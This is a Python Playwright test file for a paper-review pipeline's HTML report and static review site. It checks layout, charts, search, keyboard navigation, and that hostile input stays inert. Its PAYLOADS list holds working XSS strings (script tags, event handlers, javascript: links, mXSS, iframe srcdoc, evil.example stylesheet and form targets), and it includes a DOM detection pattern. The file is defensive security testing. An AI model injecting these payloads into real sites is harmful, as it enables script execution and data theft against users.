"""The report's page and the review site in a real browser."""

from __future__ import annotations

import functools
import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import pytest
from playwright.sync_api import Browser, Page, expect

from handlers.models import Check, Paper
from handlers.reporting.html import to_html
from handlers.reporting.review import write_site
from handlers.reporting.reviewed import Selection
from handlers.reporting.survey import survey
from handlers.run_report import RunReport
from tests.finished_run import RUN, Outcome, finished_run

Theme = Literal["light", "dark"]
PER_PAGE = 10
PAYLOADS = (
    "<script>window.hacked='script'</script>",
    "<img src=x onerror=\"window.hacked='img'\">",
    "<svg onload=\"window.hacked='svg'\"><a xlink:href=\"javascript:window.hacked='xlink'\">x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hacked=1&gt;\">",
    "$\\text{<img src=x onerror=\"window.hacked='tex'\">}$ $\\href{javascript:window.hacked='href'}{x}$",
    "</style></script></title></textarea><iframe srcdoc=\"<script>parent.hacked='frame'</script>\">",
    "<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/x.png) }</style>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example/\">",
    "\u2028</script><script>window.hacked='line separator'//{{7*7}}{% raw %}",
    "\"' autofocus onfocus=window.hacked='attribute' x=\"",
    "<form action=http://evil.example/><input name=q autofocus onfocus=\"window.hacked='form'\"></form>",
)  # fmt: skip


def corpus() -> list[dict[str, Any]]:
    plain = [
        {
            "id": f"paper-{number:03d}",
            "title": f"第{number}种光学方法" if number % 2 else f"第{number}种土壤调查",
            "abstract": f"在 $T = {number} . 5 \\pm 0 . 1$ 下，共有12组样品。$$ \\frac {{ a }} {{ b }} $$",
            "keywords": ["方法"],
            "language": "ja" if number == 5 else "zh",
            "license": "CC-BY-4.0",
            "url": f"https://example.org/{number}",
            "subject": "optics" if number % 2 else "soil",
        }
        for number in range(1, 31)
    ]
    hostile = [
        {
            "id": f"hostile-{number:03d} {payload}",
            "title": f"中文 {payload}",
            "abstract": f"中文 {payload}",
            "keywords": [f"中文 {payload}"],
            "language": "zh",
            "license": payload,
            "url": f"https://example.org/{payload}".replace(" ", "").replace("<", "").replace('"', ""),
            "date": payload,
            "source": payload,
            "subject": payload,
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    return plain + hostile


def decide(paper: Paper, _number: int) -> Outcome:
    place = int(paper.id.split("-")[1][:3])
    if paper.id.startswith("hostile"):
        payload = PAYLOADS[place]
        seen = Check(name="echo", verdict="warn", detail=f"In {payload} “{payload[:60]}” is repeated.")
        fields = {"title": payload, "abstract": payload, "keywords": [payload], payload: payload}
        return Outcome("flagged", fields, (seen,), "echo", payload, cost=5_000_000)
    fields = {
        "title": f"Optical method {place}" if place % 2 else f"Soil survey {place}",
        "abstract": f"At $T = {place} . 5 \\pm 0 . 1$ 12 samples. $$ \\frac {{ a }} {{ b }} $$",
        "keywords": ["method"],
    }
    if place == 12:
        return Outcome("failed", error="http_503", cost=0)
    missing = Check(
        name="numbers",
        verdict="fail",
        detail='In "abstract" numbers of the source are missing or changed: 12.',
    )
    if place % 10 == 3:
        return Outcome("flagged", fields, (missing,), "numbers", "12 is missing", cost=2_000_000)
    return Outcome("done", fields, cost=1_000_000)


@dataclass(frozen=True)
class Made:
    folder: Path
    address: str
    """Where the folder is served."""
    report: RunReport


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Made]:
    folder = tmp_path_factory.mktemp("pages")
    with finished_run(folder / "state", corpus(), decide) as run:
        report = run.report()
        page = to_html(report, survey(RUN, ledger=run.ledger, store=run.store))
        (folder / "report.html").write_text(page, encoding="utf-8")
        write_site(Selection(RUN, run.ledger, run.store, drafts=True), folder / "site", per_page=PER_PAGE)
    with served(folder) as address:
        yield Made(folder, address, report)


class Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
        """Nothing on stderr."""


@contextmanager
def served(folder: Path) -> Iterator[str]:
    handler = functools.partial(Quiet, directory=str(folder))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()
        thread.join()


@dataclass
class Watched:
    """A page whose every message and request is noted."""

    page: Page
    messages: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def strangers(self, *allowed: str) -> list[str]:
        return [url for url in self.requests if not url.startswith((*allowed, "data:"))]


@contextmanager
def opened(
    browser: Browser, *, width: int = 1200, theme: Theme = "light", without_policy: bool = False
) -> Iterator[Watched]:
    context = browser.new_context(
        viewport={"width": width, "height": 900}, color_scheme=theme, bypass_csp=without_policy
    )
    page = context.new_page()
    page.set_default_timeout(15_000)
    watched = Watched(page)
    page.on("console", lambda message: watched.messages.append(message.text))
    page.on("pageerror", lambda error: watched.messages.append(str(error)))
    page.on("dialog", lambda dialog: watched.messages.append(f"dialog {dialog.message}"))
    page.on("request", lambda request: watched.requests.append(request.url))
    yield watched
    context.close()


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1200, 400])
def test_the_report_opens_from_a_file_without_a_word_or_a_request(
    browser: Browser, made: Made, width: int, theme: Theme
) -> None:
    address = (made.folder / "report.html").as_uri()
    with opened(browser, width=width, theme=theme) as watched:
        watched.page.goto(address)
        assert watched.messages == []
        assert watched.requests == [address]
        assert overflow(watched.page) <= 0
        assert watched.page.locator(".chart .wide svg").first.is_visible() == (width > 720)
        assert watched.page.locator(".chart .narrow svg").first.is_visible() == (width <= 720)


def overflow(page: Page) -> int:
    """Pixels by which the page is wider than its window."""
    wide: int = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    return wide


def test_the_report_s_charts_have_the_numbers_of_the_json(browser: Browser, made: Made) -> None:
    with opened(browser) as watched:
        watched.page.goto((made.folder / "report.html").as_uri())
        drawn = watched.page.locator("#states .wide svg text").all_text_contents()
        counts = {str(state): count for state, count in made.report.counts.items()}
        names = drawn.index("done")
        assert drawn[names : names + 5] == list(counts)
        assert drawn[-5:] == [str(count) for count in counts.values()]
        checks = watched.page.locator("#checks .wide svg text").all_text_contents()
        for name, count in (made.report.failed_checks or {}).items():
            assert any(text.startswith(f"{count} (") for text in checks), name
        watched.page.locator("#states summary").click()
        assert watched.page.locator("#states td").all_text_contents() == [
            *(str(count) for count in counts.values()),
            str(made.report.papers),
        ]


def test_the_dark_theme_repaints_every_colour_of_the_charts(browser: Browser, made: Made) -> None:
    with opened(browser, theme="dark") as watched:
        watched.page.goto((made.folder / "report.html").as_uri())
        dim = watched.page.evaluate(
            """() => [...document.querySelectorAll('.wide svg text')].map(text => getComputedStyle(text).fill)
            .filter(fill => fill.match(/\\d+/g).slice(0, 3).every(part => Number(part) < 120))"""
        )
        assert dim == []


def site(made: Made, page: str = "index.html") -> str:
    return f"{made.address}/site/{page}"


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1200, 400])
def test_review_pages_open_without_a_word_and_draw_their_formulas(
    browser: Browser, made: Made, width: int, theme: Theme
) -> None:
    with opened(browser, width=width, theme=theme) as watched:
        watched.page.goto(site(made, "pages/0001.html"))
        assert watched.messages == []
        assert watched.strangers(site(made, "")) == []
        assert overflow(watched.page) <= 0
        assert watched.page.locator("article").count() == PER_PAGE
        box = watched.page.locator("article math[display=block] mfrac").first.bounding_box()
        assert box is not None
        assert box["height"] > 20
        assert watched.page.locator("#p3 mark[data-check=numbers]").all_text_contents() == ["12"]


def test_the_site_works_from_a_folder_too(browser: Browser, made: Made) -> None:
    with opened(browser) as watched:
        watched.page.goto((made.folder / "site" / "index.html").as_uri())
        watched.page.fill("input[name=q]", "optical")
        watched.page.locator("#results li").first.wait_for()
        assert watched.messages == []
        assert watched.strangers("file://") == []


def found(page: Page, count: int) -> list[str]:
    """Titles of the results, once there are so many."""
    expect(page.locator("#found")).to_have_text(f"{count} found")
    return page.locator("#results a").all_text_contents()


def test_search_and_filters_find_papers_by_words_check_field_language_and_cost(
    browser: Browser, made: Made
) -> None:
    with opened(browser) as watched:
        page = watched.page
        page.goto(site(made))
        page.fill("input[name=q]", "soil survey 2")
        assert found(page, 6)[0] == "Soil survey 2"
        page.fill("input[name=q]", "土壤")
        assert len(found(page, 14)) == 14
        page.click("button[type=reset]")
        page.select_option("select[name=check]", "numbers fail")
        assert found(page, 3) == ["Optical method 3", "Optical method 13", "Optical method 23"]
        page.select_option("select[name=language]", "ja")
        assert found(page, 0) == []
        page.select_option("select[name=check]", "")
        assert found(page, 1) == ["Optical method 5"]
        page.click("button[type=reset]")
        page.select_option("select[name=field]", "soil")
        assert len(found(page, 14)) == 14
        page.click("button[type=reset]")
        page.fill("input[name=cost]", "0.0015")
        assert len(found(page, 3 + len(PAYLOADS))) == 3 + len(PAYLOADS)
        assert watched.messages == []


def test_keys_move_through_papers_pages_results_and_back_to_the_search(browser: Browser, made: Made) -> None:
    with opened(browser) as watched:
        page = watched.page
        page.goto(site(made, "pages/0001.html"))
        for key in ("j", "j", "j", "k"):
            page.keyboard.press(key)
        assert page.evaluate("document.activeElement.id") == "p2"
        page.keyboard.press("?")
        assert page.locator("dialog").is_visible()
        page.keyboard.press("Escape")
        assert not page.locator("dialog").is_visible()
        page.keyboard.press("n")
        page.wait_for_url("**/0002.html*")
        page.keyboard.press("p")
        page.wait_for_url("**/0001.html*")
        page.keyboard.press("/")
        page.wait_for_url("**/index.html*")
        expect(page.locator("input[name=q]")).to_be_focused()
        page.keyboard.type("optical")
        found(page, 15)
        page.keyboard.press("Escape")
        for _ in range(2):
            page.keyboard.press("j")
        page.keyboard.press("Enter")
        page.wait_for_url("**/0001.html#p3")
        page.keyboard.press("J")
        page.wait_for_url("**/0001.html#p5")
        assert watched.messages == []


def test_the_last_paper_of_a_page_leads_to_the_next_page(browser: Browser, made: Made) -> None:
    with opened(browser) as watched:
        watched.page.goto(site(made, f"pages/0001.html#p{PER_PAGE}"))
        watched.page.keyboard.press("j")
        watched.page.wait_for_url("**/0002.html*")
        expect(watched.page.locator(f"#p{PER_PAGE + 1}")).to_be_focused()
        watched.page.keyboard.press("k")
        watched.page.wait_for_url("**/0001.html*")
        expect(watched.page.locator(f"#p{PER_PAGE}")).to_be_focused()


@pytest.mark.parametrize("without_policy", [False, True])
def test_hostile_papers_run_nothing_load_nothing_and_stay_text(
    browser: Browser, made: Made, without_policy: bool
) -> None:
    """With the content security policy and, so that escaping is tested by itself, without it."""
    pages = [f"site/pages/{path.name}" for path in sorted((made.folder / "site" / "pages").iterdir())]
    with opened(browser, without_policy=without_policy) as watched:
        page = watched.page
        for name in ("report.html", *pages, "site/index.html#q=hostile"):
            page.goto(f"{made.address}/{name}")
            if "index" in name:
                found(page, len(PAYLOADS))
            assert page.evaluate("window.hacked") is None, name
            assert page.evaluate(INTRUDERS) == [], name
        assert watched.messages == []
        assert watched.strangers(made.address + "/site/", made.address + "/report.html") == []


INTRUDERS = """() => [...document.querySelectorAll('body *')].filter(element =>
    ['script', 'iframe', 'object', 'embed', 'img', 'style', 'link', 'base', 'meta', 'mglyph', 'foreignobject']
        .includes(element.localName)
    || [...element.attributes].some(attribute => /^on/i.test(attribute.name)
        || /^\\s*(javascript|data|vbscript):/i.test(attribute.value) || attribute.name === 'style')
    || (element.localName === 'a' && !/^(https?|file):$/.test(element.protocol ?? 'https:'))
).map(element => element.outerHTML.slice(0, 200))"""
